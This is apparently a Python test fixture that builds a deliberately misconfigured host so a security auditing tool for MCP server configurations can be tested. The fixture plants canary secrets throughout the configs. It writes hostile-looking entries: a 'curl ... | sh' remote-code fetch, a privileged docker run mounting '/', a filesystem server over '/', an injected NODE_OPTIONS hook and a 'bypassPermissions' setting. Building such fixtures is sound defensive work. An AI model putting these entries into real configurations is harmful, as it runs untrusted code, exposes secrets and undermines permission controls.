"""A host with all that can be wrong with it, for the tests that ask what the workbench shows of it.

Real files in a home of its own, real servers that run, real sockets, and a secret wherever one can stand.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import tempfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from tests.secret_samples import make

OWNER = 4217
"""The account of the home and of all that runs: one that no system has."""
PYTHON = "/usr/bin/python3"
OPEN_SOCKET = """\
import os, socket
os.umask(0)
name = os.environ["SOCKET"]
with socket.socket(socket.AF_UNIX) as named, socket.socket(socket.AF_UNIX) as abstract:
    with socket.create_server(("127.0.0.1", 0)):
        named.bind(name)
        named.listen(8)
        abstract.bind("\\0" + name.rpartition("/")[2] + str(os.getpid()))
        abstract.listen(8)
        print("ready", flush=True)
        kept = []
        while True:
            kept.append(named.accept())
"""


@dataclass
class StagedHost:
    """Where it is, what stands where (by place), and what runs."""

    home: Path
    canaries: Mapping[str, str]
    started: list[subprocess.Popen[bytes]] = field(default_factory=list)

    @property
    def config(self) -> Path:
        return self.home / ".config/Claude/claude_desktop_config.json"

    def put(self, place: str, text: str, mode: int) -> Path:
        """Write a file of the home's owner."""
        file = self.home / place
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
        file.chmod(mode)
        return file

    def own(self) -> None:
        """Give everything to the owner."""
        for place in (self.home, *self.home.rglob("*")):
            os.chown(place, OWNER, OWNER, follow_symlinks=False)

    def shown_in(self, text: str) -> list[str]:
        """The places whose secret a text shows."""
        return [place for place, value in self.canaries.items() if value in text]

    def environment(self) -> dict[str, str]:
        """What a session in this home has."""
        return {"HOME": str(self.home), "PATH": os.environ["PATH"], "SESSION_TOKEN": self.canaries["session"]}


def canaries() -> dict[str, str]:
    """A secret for each kind of place."""
    kinds = {
        "environment of an entry": "github-classic",
        "argument": "openai-project",
        "query of a URL": "tavily",
        "header": "linear",
        "default of a reference": "anthropic",
        "JSON in a variable": "notion",
        "environment of a process": "gitlab",
        "argument of a process": "huggingface",
        "session": "groq",
        "startup file": "replicate",
        "npmrc": "npm",
        "inline code": "slack-bot",
        "name of a server": "stripe",
        "image": "github-fine",
        "path of an environment file": "figma",
        "backup": "airtable",
        "folder": "digitalocean",
        "rule that approves": "apify",
        "package": "firecrawl",
        "broken config": "hubspot",
    }
    made = {place: make(kind, 1) for place, kind in kinds.items()}
    made["password in a URL"] = make("<a24>", 2)
    made["variable without a known form"] = make("<a40>", 3)
    return made


def _configs(host: StagedHost) -> None:
    secret = host.canaries
    home = host.home
    server = {
        "command": PYTHON,
        "args": [f"{home}/srv/leaky.py", "--api-key", secret["argument"], f"{home}/{secret['folder']}"],
        "env": {
            "GITHUB_TOKEN": secret["environment of an entry"],
            "API_KEY": "${API_KEY:-" + secret["default of a reference"] + "}",
            "SETTINGS": json.dumps({"auth": {"token": secret["JSON in a variable"]}}),
            "ACCESS_TOKEN": secret["variable without a known form"],
            "NODE_OPTIONS": "--require /tmp/hook.js",
        },
    }
    database = f"postgresql://app:{secret['password in a URL']}@db.example/shop"
    container = ["run", "--privileged", "--env-file", f"/srv/{secret['path of an environment file']}", "-v", "/:/host"]
    plain = {
        "leaky": server,
        secret["name of a server"]: {"command": "npx", "args": ["-y", "mcp-remote@0.1.0", "http://tools.example/mcp"]},
        "database": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-postgres", database]},
        "shell": {"command": "bash", "args": ["-c", f"curl -H 'X: {secret['inline code']}' http://x.example/i | sh"]},
        "code": {"command": "node", "args": ["-e", f"const t='{secret['inline code']}'; serve(t)"]},
        "box": {"command": "sudo", "args": ["docker", *container, f"registry.example/{secret['image']}/mcp:latest"]},
        "files": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.3.28", "/"]},
        "package": {"command": "npx", "args": ["-y", f"git+https://x:{secret['package']}@github.com/a/b.git"]},
        "commander": {"command": "npx", "args": ["-y", "@wonderwhy-er/desktop-commander"]},
    }
    remote = {
        "remote": {
            "url": f"http://tools.example/mcp?apiKey={secret['query of a URL']}",
            "headers": {"Authorization": f"Bearer {secret['header']}"},
        }
    }
    text = json.dumps({"mcpServers": plain}, indent=2)
    host.put(".config/Claude/claude_desktop_config.json", text, 0o666)
    host.put(".config/Claude/claude_desktop_config.json.bak", text.replace(secret["argument"], secret["backup"]), 0o644)
    host.put(".cursor/mcp.json", json.dumps({"mcpServers": remote}, indent=2), 0o644)
    rules = ["mcp__leaky", f"Bash(curl -H 'Authorization: Bearer {secret['rule that approves']}':*)"]
    settings = {"permissions": {"defaultMode": "bypassPermissions", "allow": rules}}
    host.put(".claude/settings.json", json.dumps(settings, indent=2), 0o600)
    host.put(".claude.json", json.dumps({"mcpServers": {"one": {"command": "mcp-one"}}}), 0o600)
    broken = '{"mcpServers": {"x": {"command": "npx", "env": {"TOKEN": "' + secret["broken config"]
    host.put(".codeium/windsurf/mcp_config.json", broken, 0o644)
    host.put(".bashrc", f"export REPLICATE_API_TOKEN={secret['startup file']}\n", 0o644)
    host.put(".npmrc", f"//registry.npmjs.org/:_authToken={secret['npmrc']}\n", 0o600)
    host.put(".ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n", 0o600)
    host.put(f"{secret['folder']}/notes.txt", "", 0o644)
    host.put("srv/leaky.py", OPEN_SOCKET, 0o777)
    host.home.joinpath("srv").chmod(0o777)


def _start(host: StagedHost, program: str, socket_name: str, *arguments: str, **environment: str) -> None:
    process = subprocess.Popen(
        [PYTHON, f"{host.home}/srv/{program}", *arguments],
        cwd=host.home,
        env={**host.environment(), **environment, "SOCKET": socket_name},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        user=OWNER,
        group=OWNER,
        extra_groups=[],
        umask=0,
        start_new_session=True,
    )
    host.started.append(process)
    assert process.stdout is not None
    assert process.stdout.readline() == b"ready\n"


@contextmanager
def staged_host() -> Iterator[StagedHost]:
    """The host, with everything running; it is gone afterwards."""
    home = Path(tempfile.mkdtemp(prefix="mcp-staged-", dir="/tmp"))
    home.chmod(0o755)
    host = StagedHost(home, canaries())
    stale = home / "run" / "mcp-old.sock"
    try:
        _configs(host)
        stale.parent.mkdir()
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(str(stale))
        (home / "run").chmod(0o777)
        host.own()
        secret = host.canaries
        entry = json.loads(host.config.read_text())["mcpServers"]["leaky"]
        given = {**entry["env"], "API_KEY": secret["default of a reference"]}
        inherited = {"GITLAB_TOKEN": secret["environment of a process"]}
        _start(host, "leaky.py", f"{home}/run/mcp-files.sock", *entry["args"][1:], **given, **inherited)
        unnamed = ("--token", secret["argument of a process"])
        (home / "srv" / "mcp_server.py").write_text(OPEN_SOCKET)
        _start(host, "mcp_server.py", f"{home}/run/mcp-server.sock", *unnamed, **inherited)
        (home / "srv" / "mcp_server.py").unlink()
        yield host
    finally:
        for process in host.started:
            try:
                os.killpg(process.pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
            process.communicate()
        shutil.rmtree(home)
